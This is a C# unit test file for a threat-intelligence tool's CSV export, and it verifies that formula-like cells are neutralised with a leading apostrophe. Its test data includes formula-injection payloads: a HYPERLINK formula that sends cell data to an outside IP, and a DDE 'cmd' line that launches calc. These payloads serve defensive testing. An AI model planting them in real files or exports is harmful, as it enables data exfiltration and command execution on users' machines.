using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using ThreatGrid.Observables.Formats;
using ThreatGrid.Observables.Tests.Readers;
using ThreatGrid.Observables.Tests.Testing;
using ThreatGrid.Testing;
using Xunit;

namespace ThreatGrid.Observables.Tests.Formats;

/// <summary>CSV for spreadsheets (cases 13 and 14).</summary>
public sealed class CsvTests
{
    private static readonly string[] Columns =
    [
        "Timestamp", "Type", "Value", "Unicode", "RawValue", "Indicator", "Severity", "Confidence", "Description", "Port", "Feed", "SampleId", "SampleSha256", "SampleLink", "IndicatorLink", "Connection", "Id",
    ];

    [Theory]
    [InlineData("=HYPERLINK(\"http://11.0.0.9/?\"&A1,\"open\")", true)]
    [InlineData("+1+1", true)]
    [InlineData("-2+3+cmd|' /C calc'!A0", true)]
    [InlineData("@SUM(1,1)", true)]
    [InlineData("\t=1+1", true)]
    [InlineData("\r=1+1", true)]
    [InlineData("=1", true)]
    [InlineData("-", true)]
    [InlineData("-5", true)]
    [InlineData("+49 30 1234", true)]
    [InlineData("normal.exe", false)]
    [InlineData("'=quoted", false)]
    [InlineData("＝1+1 (full-width)", true)]
    [InlineData("＋1", true)]
    [InlineData("－1", true)]
    [InlineData("＠x", true)]
    [InlineData(" =leading space", true)]
    [InlineData("%00", false)]
    [InlineData("name;=1+1", false)]
    [InlineData("", false)]
    public void A_text_that_would_be_a_formula_gets_an_apostrophe_and_no_other_does(string cell, bool isGuarded)
    {
        Assert.Equal(isGuarded ? "'" + cell : cell, FormulaGuard.Protect(cell));

        Observable item = Items.Of(ObservableType.Path, "x");
        item.Description = cell;
        Assert.Equal(isGuarded ? "'" + cell : cell, Read(item, noGuard: false)["Description"]);
        Assert.Equal(cell, Read(item, noGuard: true)["Description"]);
    }

    [Fact]
    public void Numbers_and_times_stay_as_they_are()
    {
        Observable item = Items.Of(ObservableType.Ip, "11.22.33.44");
        item.Severity = -5;
        item.Confidence = 0;
        item.UtcTicks = Items.Ticks("2026-03-02T10:00:00Z");
        IReadOnlyDictionary<string, string> row = Read(item, noGuard: false);
        Assert.Equal("-5", row["Severity"]);
        Assert.Equal("0", row["Confidence"]);
        Assert.Equal("2026-03-02T10:00:00Z", row["Timestamp"]);
        Assert.Equal(string.Empty, row["Port"]);
    }

    [Fact]
    public void A_time_has_as_many_digits_as_it_needs()
    {
        Observable item = Items.Of(ObservableType.Ip, "11.22.33.44");
        item.UtcTicks = Items.Ticks("2026-03-02T10:02:00.500Z");
        Assert.Equal("2026-03-02T10:02:00.5Z", Read(item, noGuard: false)["Timestamp"]);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void Every_nasty_observable_comes_back(bool noGuard)
    {
        string Plain(string? text)
        {
            string cell = text ?? string.Empty;
            return !noGuard && FormulaGuard.Protect(cell) != cell ? "'" + cell : cell;
        }

        foreach (Observable item in Items.Nasty())
        {
            IReadOnlyDictionary<string, string> row = Read(item, noGuard);
            Assert.Equal(item.Type.ToString(), row["Type"]);
            Assert.Equal(Plain(item.Value), row["Value"]);
            Assert.Equal(Plain(item.RawValue), row["RawValue"]);
            Assert.Equal(Plain(item.Indicator), row["Indicator"]);
            Assert.Equal(Plain(item.Description), row["Description"]);
            Assert.Equal(Plain(item.Connection), row["Connection"]);
            Assert.Equal(item.Port?.ToString(CultureInfo.InvariantCulture) ?? string.Empty, row["Port"]);
            Assert.Equal(item.Id, row["Id"]);
        }
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(1000)]
    public void The_columns_are_the_same_for_any_number_of_rows(int count)
    {
        IReadOnlyList<IReadOnlyList<string>> rows = CsvReader.Read(Rendering.Of(new CsvFormat(Rendering.Options), Items.Domains(count)));
        Assert.Equal(count + 1, rows.Count);
        Assert.Equal(Columns, rows[0]);
        Assert.All(rows, r => Assert.Equal(Columns.Length, r.Count));
    }

    [Fact]
    public void Every_cell_is_quoted_whatever_the_separator_of_the_country()
    {
        Observable item = Items.Of(ObservableType.Path, "a;b");
        string row = Culture.In("de-DE", () => new CsvFormat(Rendering.Options).Render(item));
        Assert.StartsWith("\"\",\"Path\",\"a;b\",", row, StringComparison.Ordinal);
    }

    [Fact]
    public void The_byte_order_mark_is_there_when_asked_for_and_only_then()
    {
        Assert.Equal("\uFEFF\"Timestamp\"", new CsvFormat(Rendering.Options with { ByteOrderMark = true }).Header.Substring(0, 12));
        Assert.Equal("\"Timestamp\"", new CsvFormat(Rendering.Options).Header.Substring(0, 11));
    }

    private static Dictionary<string, string> Read(Observable item, bool noGuard)
    {
        IReadOnlyList<IReadOnlyList<string>> rows = CsvReader.Read(Rendering.Of(OutputFormat.Csv, Rendering.Options with { NoGuard = noGuard }, item));
        Assert.Equal(2, rows.Count);
        return rows[0].Zip(rows[1], (name, cell) => (name, cell)).ToDictionary(p => p.name, p => p.cell);
    }
}
